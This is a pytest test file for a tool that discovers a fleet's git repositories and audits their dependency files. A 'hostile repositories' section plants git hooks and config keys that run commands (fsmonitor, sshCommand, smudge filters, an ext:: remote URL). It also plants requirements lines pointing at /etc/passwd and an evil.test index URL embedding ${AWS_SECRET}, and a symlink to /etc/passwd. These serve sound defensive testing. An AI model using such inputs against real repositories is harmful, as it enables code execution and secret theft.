"""The repositories of a fleet, and what of them is judged."""

from __future__ import annotations

import os
import pickle
import subprocess
from collections.abc import Mapping
from datetime import date
from pathlib import Path

import pytest

from buildmatrix.base.errors import ComponentError, SpecError, UsageError
from buildmatrix.catalogue.load import load
from buildmatrix.fleet import repositories, repository_files
from buildmatrix.fleet.auditing import audit_file
from buildmatrix.fleet.judging import parse_pattern
from buildmatrix.fleet.model import AuditTask, WorkerSettings
from buildmatrix.fleet.repositories import Repositories, find_repositories
from buildmatrix.fleet.repository_files import AuditPlan, plan_audit

WHO = {
    "GIT_AUTHOR_NAME": "a",
    "GIT_AUTHOR_EMAIL": "a@b.test",
    "GIT_COMMITTER_NAME": "a",
    "GIT_COMMITTER_EMAIL": "a@b.test",
    "GIT_COMMITTER_DATE": "1760000000 +0200",
    "GIT_AUTHOR_DATE": "1760000000 +0200",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_SYSTEM": os.devnull,
}
SPEC = """\
[project]
name = "a"
version = "1"
[defaults]
python = ["3.12"]
requirements = ["base.in"]
base = "debian:12"
[backend.cuda]
runtime = "12.8"
[backend.rocm]
runtime = "6.4"
"""


def git(folder: Path, *arguments: str) -> str:
    done = subprocess.run(
        ["git", *arguments], cwd=folder, env=os.environ | WHO, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def repository(folder: Path, files: Mapping[str, str | bytes]) -> Path:
    """A clone with one commit."""
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", "main")
    for name, text in files.items():
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(text if isinstance(text, bytes) else text.encode())
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "x", "--allow-empty")
    return folder


@pytest.fixture(autouse=True)
def clones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BUILDMATRIX_CACHE", str(tmp_path / "cache"))
    (tmp_path / "clones").mkdir()
    return tmp_path / "clones"


def settings(*patterns: str, backend: str = "cpu") -> WorkerSettings:
    return WorkerSettings(
        store="",
        platform="linux/amd64",
        today=date(2026, 1, 1),
        backend=backend,
        patterns=tuple(map(parse_pattern, patterns)),
    )


def planned(*sources: str, **more: object) -> AuditPlan:
    return plan_audit(
        find_repositories(sources or ("clones",)).repositories, settings(**more), load()
    )


def files(held: AuditPlan) -> dict[str, str]:
    return {
        f"{holder.repository}/{holder.path}": task.error or task.backend
        for task in held.tasks
        for holder in task.holders
    }


# Which repositories


def names(held: Repositories) -> list[str]:
    return [item.name for item in held.repositories]


def test_a_folder_of_clones(clones: Path):
    repository(clones / "a", {})
    repository(clones / "group" / "sub" / "b", {})
    git(clones, "clone", "-q", "--bare", str(clones / "a"), "group/mirror.git")
    git(clones / "a", "worktree", "add", "-q", "../linked")
    (clones / "plain").mkdir()
    (clones / "loop").symlink_to(clones)
    held = find_repositories(["clones"])
    assert names(held) == ["a", "group/mirror", "group/sub/b"]
    assert held.missing == ()
    assert held.notes == (
        "clones: 1 folder of work trees and submodules left out: name the repositories that they "
        "belong to",
    )
    assert names(find_repositories(["clones/a"])) == ["a"]
    assert names(find_repositories(["clones", "clones/a", "clones/group"])) == names(held)
    assert find_repositories(["clones/plain"]).missing == (
        "clones/plain: there is no repository in clones/plain",
    )


def test_a_list_of_repositories(clones: Path, tmp_path: Path):
    repository(clones / "a", {})
    repository(clones / "my app", {})
    repository(tmp_path / "other" / "a", {})
    (clones / "list.txt").write_text("a owner=ml  # first\n\n# none\nmy app\n../other\n")
    held = find_repositories(["file:clones/list.txt"])
    assert [(item.name, item.place, item.owner) for item in held.repositories] == [
        ("../other/a", "clones/list.txt:5", ""),
        ("a", "clones/list.txt:1", "ml"),
        ("my app", "clones/list.txt:4", ""),
    ]
    assert find_repositories(["clones/list.txt"]) == held


def test_two_of_one_name(clones: Path):
    repository(clones / "x" / "a", {})
    repository(clones / "y" / "a", {})
    assert names(find_repositories(["clones/x", "clones/y"])) == [
        "clones/x/a/.git",
        "clones/y/a/.git",
    ]


def test_what_is_no_source(clones: Path, monkeypatch: pytest.MonkeyPatch):
    for text in ("https://ann:secret@host.test/a.git", "git@host.test:a.git"):
        with pytest.raises(UsageError, match="run `git clone --mirror` for it") as error:
            find_repositories([text])
        assert "secret" not in error.value.message
    with pytest.raises(UsageError, match="there is no folder gone, and no list"):
        find_repositories(["gone"])
    with pytest.raises(UsageError, match="name repositories"):
        find_repositories([])
    (clones / "list.txt").write_text("gone\nssh://host.test/a\n")
    with pytest.raises(SpecError) as errors:
        find_repositories(["clones/list.txt"])
    assert [problem.line for problem in errors.value.problems] == [1, 2]
    monkeypatch.setattr(repositories, "MOST_FOLDERS", 1)
    (clones / "empty").mkdir()
    assert "more than 1 folders" in find_repositories(["clones"]).missing[0]


# Which files


def test_files_that_say_what_is_installed(clones: Path):
    repository(
        clones / "a",
        {
            "pylock.toml": "lock-version = '1.0'\n",
            "pylock.rocm6.4.toml": "x",
            "Pipfile.lock": "{}",
            "requirements.txt": "numpy\n",
            "requirements-cuda12.8.in": "numpy\n",
            "dev-requirements.txt": "numpy\n",
            "requirements/oneapi.txt": "numpy\n",
            "requirements/constraints.txt": "numpy<3\n",
            "docker/rocm/requirements.txt": "numpy\n",
            "docker/requirements-cpu-cuda.txt": "numpy\n",
            "notes.txt": "no requirements\n",
            "tools/pyproject.toml": "[tool.ruff]\n",
            "lib/pyproject.toml": "[project]\nname = 'lib'\ndependencies = ['numpy']\n",
            "tests/requirements.txt": "pytest\n",
            "src/vendor/x/requirements.txt": "six\n",
        },
    )
    held = planned(backend="opencl")
    assert files(held) == {
        "a/pylock.toml": "opencl",
        "a/pylock.rocm6.4.toml": "rocm",
        "a/Pipfile.lock": "opencl",
        "a/requirements.txt": "opencl",
        "a/requirements-cuda12.8.in": "cuda",
        "a/dev-requirements.txt": "opencl",
        "a/requirements/oneapi.txt": "oneapi",
        "a/docker/rocm/requirements.txt": "rocm",
        "a/docker/requirements-cpu-cuda.txt": "opencl",
        "a/lib/pyproject.toml": "opencl",
    }
    assert held.notes == ("2 files in folders of tests and of vendored code left out",)
    undecided = planned(backend="")
    assert files(undecided)["a/requirements.txt"].startswith("nothing says which backend")
    with_patterns = plan_audit(
        find_repositories(["clones"]).repositories, settings("a/lib/*=rocm", "*.lock=cuda"), load()
    )
    assert files(with_patterns)["a/lib/pyproject.toml"] == "rocm"
    assert files(with_patterns)["a/Pipfile.lock"] == "cuda"


def test_what_another_file_holds_is_not_judged_twice(clones: Path):
    project = "[project]\nname = 'a'\ndependencies = ['numpy']\n"
    repository(
        clones / "a",
        {
            "pyproject.toml": project,
            "uv.lock": "version = 1\n",
            "requirements.in": "numpy\n",
            "requirements.txt": "-r requirements-base.txt\n",
            "requirements-base.txt": "numpy\n",
            "pkg/pyproject.toml": project,
        },
    )
    held = planned()
    assert set(files(held)) == {"a/uv.lock", "a/requirements.txt", "a/pkg/pyproject.toml"}
    assert held.notes[0].startswith("3 files left out of which another file holds")


def test_a_specification_holds_for_its_files(clones: Path):
    repository(
        clones / "a",
        {
            "app/buildmatrix.toml": SPEC,
            "app/base.in": "numpy\n",
            "app/locks/pylock.cuda12.8-py312-default.toml": "x",
            "requirements.txt": "numpy\n",
        },
    )
    repository(clones / "b", {"buildmatrix.toml": "[project\n"})
    held = planned()
    assert set(files(held)) == {
        "a/app/buildmatrix.toml",
        "a/requirements.txt",
        "b/buildmatrix.toml",
    }
    spec = next(task for task in held.tasks if "base.in" in task.files)
    assert spec.path == "buildmatrix.toml"
    assert set(spec.files) == {
        "buildmatrix.toml",
        "base.in",
        "locks/pylock.cuda12.8-py312-default.toml",
    }
    broken = next(task for task in held.tasks if task.holders[0].repository == "b")
    (result,) = audit_file(settings(), broken).results
    assert result.state == "undecided"
    assert "buildmatrix.toml:1" in (result.error or "")
    assert str(clones.parent) not in (result.error or "")


def test_equal_files_are_one_task(clones: Path):
    lock = {"requirements-cuda.txt": "-c c.txt\nnumpy==1.0\n", "c.txt": "six<2\n"}
    repository(clones / "a", lock)
    repository(clones / "b", {f"deep/er/{name}": text for name, text in lock.items()})
    repository(clones / "c", lock | {"c.txt": "six<3\n"})
    held = planned()
    assert sorted([holder.repository for holder in task.holders] for task in held.tasks) == [
        ["a", "b"],
        ["c"],
    ]
    assert sorted(held.tasks[0].files) == ["c.txt", "requirements-cuda.txt"]
    assert pickle.loads(pickle.dumps(held.tasks)) == held.tasks
    holder = held.tasks[0].holders[0]
    assert holder.commit == git(clones / "a", "rev-parse", "HEAD").strip()
    assert holder.created == "2025-10-09T10:53:20+02:00"
    assert holder.backend_by == "name"


def test_the_default_branch_counts(clones: Path, tmp_path: Path):
    origin = repository(tmp_path / "origin", {"requirements-cuda.txt": "numpy\n"})
    git(clones, "clone", "-q", str(origin), "a")
    clone = clones / "a"
    git(clone, "checkout", "-q", "-b", "feature")
    (clone / "requirements-rocm.txt").write_text("numpy\n")
    git(clone, "add", "-A")
    git(clone, "commit", "-q", "-m", "x")
    (clone / "requirements-cpu.txt").write_text("not committed\n")
    assert files(planned()) == {"a/requirements-cuda.txt": "cuda"}
    git(clone, "remote", "remove", "origin")
    assert set(files(planned())) == {"a/requirements-cuda.txt", "a/requirements-rocm.txt"}


def test_repositories_without_a_commit_and_broken_ones(clones: Path):
    (clones / "new").mkdir()
    git(clones / "new", "init", "-q")
    broken = repository(clones / "broken", {"requirements.txt": "a\n"})
    for item in (broken / ".git" / "objects").glob("??/*"):
        item.unlink()
    odd = repository(clones / "odd", {})
    (odd / ".git" / "config").write_text("[core\n")
    held = planned()
    assert held.tasks == ()
    assert held.notes == ("new has no commit yet",)
    assert len(held.missing) == 2
    assert held.missing[0].startswith("broken: git cannot read it: missing object")
    assert held.missing[1].startswith("odd: git cannot read it: bad config")


def test_without_git(clones: Path, monkeypatch: pytest.MonkeyPatch):
    repository(clones / "a", {})
    found = find_repositories(["clones"]).repositories
    monkeypatch.setenv("PATH", str(clones))
    with pytest.raises(ComponentError, match="git was not found"):
        plan_audit(found, settings(), load())


# Hostile repositories


def test_settings_of_a_repository_start_no_program(clones: Path, tmp_path: Path):
    """Of a partial clone, git would fetch what is missing, by whatever its settings say."""
    proof = tmp_path / "proof"
    folder = repository(clones / "a", {"requirements-cuda.txt": "numpy\n", "b.txt": "x\n"})
    hook = folder / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {proof}\n")
    hook.chmod(0o755)
    start = f"touch {proof}"
    for key, value in {
        "core.fsmonitor": start,
        "core.sshCommand": start,
        "core.pager": start,
        "core.alternateRefsCommand": start,
        "core.hooksPath": str(hook.parent),
        "pager.ls-tree": start,
        "gpg.program": start,
        "log.showSignature": "true",
        "alias.cat-file": f"!{start}",
        "filter.x.smudge": start,
        "filter.x.required": "true",
        "extensions.partialClone": "origin",
        "remote.origin.promisor": "true",
        "remote.origin.url": f"ext::sh -c {start.replace(' ', '% ')}",
        "protocol.ext.allow": "always",
        "protocol.allow": "always",
    }.items():
        git(folder, "config", key, value)
    (folder / ".git" / "info").mkdir(exist_ok=True)
    (folder / ".git" / "info" / "attributes").write_text("* filter=x diff=x\n")
    assert files(planned()) == {"a/requirements-cuda.txt": "cuda"}
    blob = git(folder, "rev-parse", "HEAD:requirements-cuda.txt").strip()
    (folder / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    held = planned()
    (error,) = files(held).values()
    assert error.startswith("git cannot read the object ")
    assert held.missing == ()
    assert not proof.exists()


def test_a_folder_above_is_not_meant(clones: Path):
    """Of a broken repository, git would take the one above."""
    repository(clones.parent / "outer", {"requirements.txt": "numpy\n"})
    inner = clones.parent / "outer" / "inner" / ".git"
    (inner / "objects").mkdir(parents=True)
    (inner / "HEAD").write_text("ref: refs/heads/main\n")
    held = planned("outer/inner")
    assert held.tasks == ()
    assert held.missing[0].startswith("inner: git cannot read it")


def test_paths_that_lead_out(clones: Path):
    folder = repository(
        clones / "a",
        {
            "requirements-1.txt": "-r /etc/passwd\n",
            "requirements-2.txt": "-r ../../../etc/passwd\n",
            "requirements-3.txt": "--extra-index-url https://evil.test/${AWS_SECRET}/\n",
            "requirements-4.txt": "-e /root/x\n",
            "requirements-5.txt": "# ${HOME}\nnumpy\n",
        },
    )
    (folder / "requirements-6.txt").symlink_to("/etc/passwd")
    (folder / "requirements-7.txt").symlink_to("requirements-5.txt")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "x")
    held = files(planned())
    assert held == {
        "a/requirements-1.txt": "requirements-1.txt:1 names /etc/passwd, outside of its repository",
        "a/requirements-2.txt": "requirements-2.txt:1 names ../../../etc/passwd, outside of its "
        "repository",
        "a/requirements-3.txt": "requirements-3.txt:1 uses the environment variable AWS_SECRET, "
        "and a repository of a fleet gets none",
        "a/requirements-4.txt": "requirements-4.txt:1 names /root/x, outside of its repository",
        "a/requirements-5.txt": "cpu",
        "a/requirements-6.txt": "it is a link that leads to no file of its repository",
        "a/requirements-7.txt": "cpu",
    }


def test_odd_names_and_huge_files(clones: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(repository_files, "LARGEST", 100)
    repository(
        clones / "a",
        {
            "x\ny/requirements-cuda.txt": "numpy\n",
            "\u202e/requirements-rocm.txt": "numpy\n",
            "requirements.txt": "#" * 101,
        },
    )
    held = planned()
    assert files(held) == {
        "a/x\ny/requirements-cuda.txt": "cuda",
        "a/\u202e/requirements-rocm.txt": "rocm",
        "a/requirements.txt": "requirements.txt has 101 bytes",
    }
    huge = next(task for task in held.tasks if task.error)
    (result,) = audit_file(settings(), huge).results
    assert (result.state, result.error) == ("undecided", "requirements.txt has 101 bytes")


def test_submodules_are_named(clones: Path):
    repository(clones / "a", {".gitmodules": '[submodule "x"]\n'})
    assert planned().notes == ("a has submodules, which were not looked into",)


def test_too_many_files(clones: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(repository_files, "MOST_JUDGED", 2)
    repository(clones / "a", {f"{name}/requirements.txt": "numpy\n" for name in "abc"})
    held = planned()
    assert len(files(held)) == 2
    assert held.missing == ("a has 3 files that say what is installed, and 2 of them were judged",)


# What is said of a file


def test_a_file_that_cannot_be_read_is_undecided_for_all_who_hold_it(clones: Path):
    for name in "ab":
        repository(clones / name, {"pylock.cuda.toml": "not toml ["})
    (task,) = planned().tasks
    done = audit_file(settings(), task)
    assert [(item.repository, item.names, item.state) for item in done.results] == [
        ("a", ("pylock.cuda.toml",), "undecided"),
        ("b", ("pylock.cuda.toml",), "undecided"),
    ]
    assert all(item.kind == "lock" and item.backend == "cuda" for item in done.results)
    assert "pylock.cuda.toml:1" in (done.results[0].error or "")
    assert len({item.key for item in done.results}) == 2


def test_a_lock_without_wheels_is_judged(clones: Path):
    repository(clones / "a", {"requirements-cuda.txt": "# nothing\n"})
    (task,) = planned().tasks
    (result,) = audit_file(settings(), task).results
    assert result.state == "passed"
    assert (result.places, result.digest) == (("clones",), task.holders[0].commit)


def test_an_unknown_backend_is_undecided():
    task = AuditTask(
        holders=planned_holder(), path="requirements.txt", files={}, backend="nonsense"
    )
    (result,) = audit_file(settings(), task).results
    assert result.state == "undecided"
    assert "there is no backend 'nonsense'" in (result.error or "")


def planned_holder() -> tuple[repository_files.Holder, ...]:
    return (
        repository_files.Holder(
            repository="a", path="requirements.txt", commit="c", created="", place="clones"
        ),
    )
